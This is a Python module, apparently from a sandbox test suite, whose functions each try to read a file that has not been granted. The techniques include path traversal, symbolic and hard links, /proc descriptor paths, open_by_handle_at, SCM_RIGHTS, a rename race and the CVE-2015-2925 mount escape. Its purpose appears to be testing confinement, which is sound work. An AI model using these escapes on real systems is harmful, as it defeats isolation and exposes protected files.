"""Attacks on a file that is not granted, by every kind of path.

SETTING: "secret", its path on the host; "work" and "served", places that are granted, beside it on the host;
"inner" and "inner-served", which stand in "all" and are mounted a second time; "handle", the kernel's handle
of the secret; "service", a socket at which a server gives descriptors away.
"""

from __future__ import annotations

import array
import ctypes
import os
import socket
from collections.abc import Iterator
from contextlib import suppress

from trying import SETTING, Nothing, call, checked, libc, main, named

_AT_FDCWD = -100
_UP = "/.." * 30
# Where it works, it goes on until it does.
_TRIES = int(SETTING.get("tries", 1_000_000))


def _secret() -> str:
    return str(SETTING["secret"])


def _read(path: str) -> str:
    with open(path) as file:
        return file.read()


def _any(paths: Iterator[str]) -> str:
    """The first file of these that can be read, else the last refusal."""
    failure: OSError = FileNotFoundError(2, "nothing to try")
    for path in paths:
        try:
            return _read(path)
        except OSError as error:
            failure = error
    raise failure


def _processes() -> list[str]:
    return [*(name for name in os.listdir("/proc") if name.isdecimal()), "self", "thread-self"]


def the_absolute_path() -> object:
    return _read(_secret())


def dots_above_a_grant() -> object:
    return _read(SETTING["work"] + _UP + _secret())


def dots_above_the_working_directory() -> object:
    os.chdir(SETTING["work"])
    return _read("../" * 30 + _secret()[1:])


def dots_above_a_descriptor() -> object:
    directory_fd = os.open(SETTING["served"], os.O_PATH)
    return os.read(os.open("../" * 30 + _secret()[1:], os.O_RDONLY, dir_fd=directory_fd), 100)


def link_to_the_absolute_path() -> object:
    os.symlink(_secret(), SETTING["work"] + "/absolute")
    return _read(SETTING["work"] + "/absolute")


def link_to_a_relative_path() -> object:
    os.symlink("../secret/key", SETTING["work"] + "/relative")
    return _read(SETTING["work"] + "/relative")


def link_to_a_directory() -> object:
    os.symlink(os.path.dirname(_secret()), SETTING["work"] + "/directory")
    return _read(SETTING["work"] + "/directory/key")


def link_in_a_served_tree() -> object:
    os.symlink(_secret(), SETTING["served"] + "/absolute")
    return _read(SETTING["served"] + "/absolute")


def relative_link_in_a_served_tree() -> object:
    os.symlink("../secret/key", SETTING["served"] + "/relative")
    return _read(SETTING["served"] + "/relative")


def directory_link_in_a_served_tree() -> object:
    os.symlink("../secret", SETTING["served"] + "/directory")
    return _read(SETTING["served"] + "/directory/key")


def hard_link() -> object:
    os.link(_secret(), SETTING["work"] + "/hard")
    return _read(SETTING["work"] + "/hard")


def hard_link_in_a_served_tree() -> object:
    os.link("../secret/key", SETTING["served"] + "/hard", src_dir_fd=os.open(SETTING["served"], os.O_PATH))
    return _read(SETTING["served"] + "/hard")


def root_of_each_process() -> object:
    return _any(f"/proc/{name}/root{_UP}{_secret()}" for name in _processes())


def working_directory_of_each_process() -> object:
    return _any(f"/proc/{name}/cwd{_UP}{_secret()}" for name in _processes())


def root_of_each_thread() -> object:
    return _any(f"/proc/self/task/{name}/root{_UP}{_secret()}" for name in os.listdir("/proc/self/task"))


def descriptors_of_each_process() -> object:
    """Directories that somebody has open, init too."""
    own_fd = os.open("/", os.O_RDONLY)
    found = []
    for name in _processes():
        with suppress(OSError):
            found += [f"/proc/{name}/fd/{fd}{_UP}{_secret()}" for fd in os.listdir(f"/proc/{name}/fd")]
    found += [f"/proc/1/fd/{fd}{_UP}{_secret()}" for fd in range(64)]
    try:
        return _any(iter(found))
    finally:
        os.close(own_fd)


def handle_of_the_file() -> object:
    """open_by_handle_at(2), as "shocker" did: the handle is known, and each mount is tried."""
    handle = bytes.fromhex(SETTING["handle"])
    buffer = ctypes.create_string_buffer(handle, len(handle))
    failure: OSError | None = None
    for place in (SETTING["work"], "/", "/usr", "/tmp"):
        try:
            return os.read(call("open_by_handle_at", os.open(place, os.O_RDONLY), buffer, os.O_RDONLY), 100)
        except OSError as error:
            failure = error
    raise failure or OSError(5, "nothing was tried")


def descriptor_through_a_service() -> object:
    """SCM_RIGHTS: the server at the other end gives a descriptor of the secret away."""
    with socket.socket(socket.AF_UNIX) as stream:
        stream.connect(SETTING["service"])
        room = socket.CMSG_SPACE(4 * 8)
        data, ancillary, _, _ = stream.recvmsg(100, room)
        assert data == b"take this", data
    for level, kind, content in ancillary:
        if (level, kind) == (socket.SOL_SOCKET, socket.SCM_RIGHTS):
            fds = array.array("i")
            fds.frombytes(content[: len(content) - len(content) % 4])
            return os.read(fds[0], 100)
    raise Nothing("the bytes came alone")


def _race(folder: str) -> object:
    """A directory and a link to the secret's change places while its "key" is opened again and again."""
    os.mkdir(f"{folder}/race")
    with open(f"{folder}/race/key", "w") as file:
        file.write("mine")
    os.symlink(os.path.dirname(_secret()), f"{folder}/bait")
    flipper = os.fork()
    if flipper == 0:
        names = f"{folder}/race".encode(), f"{folder}/bait".encode()
        while os.getppid() != 1:
            libc.renameat2(_AT_FDCWD, names[0], _AT_FDCWD, names[1], 2)
        os._exit(0)
    try:
        for _ in range(_TRIES):
            with suppress(OSError):
                if (found := _read(f"{folder}/race/key")) != "mine":
                    return found
    finally:
        os.kill(flipper, 9)
        os.waitpid(flipper, 0)
    raise Nothing(f"{_TRIES} times")


def rename_race() -> object:
    return _race(SETTING["work"])


def rename_race_in_a_served_tree() -> object:
    return _race(SETTING["served"])


def _moved_out(inner: str, name: str) -> object:
    """The working directory is moved out of the mount that shows it: where does `..` lead (CVE-2015-2925)?"""
    os.mkdir(f"{inner}/{name}")
    above_fd = os.open(SETTING["all"], os.O_PATH)
    os.chdir(f"{inner}/{name}")
    if SETTING.get("chroot"):
        checked(libc.chroot(inner.encode()), "chroot")
    os.rename(f"{os.path.basename(inner)}/{name}", name, src_dir_fd=above_fd, dst_dir_fd=above_fd)
    os.close(above_fd)
    return _read("../../secret/key")


def working_directory_moved_out() -> object:
    return _moved_out(SETTING["inner"], "moved")


def working_directory_moved_out_of_a_served_tree() -> object:
    return _moved_out(SETTING["inner-served"], "moved-served")


ATTACKS = named(globals(), __name__)

if __name__ == "__main__":
    main(ATTACKS)
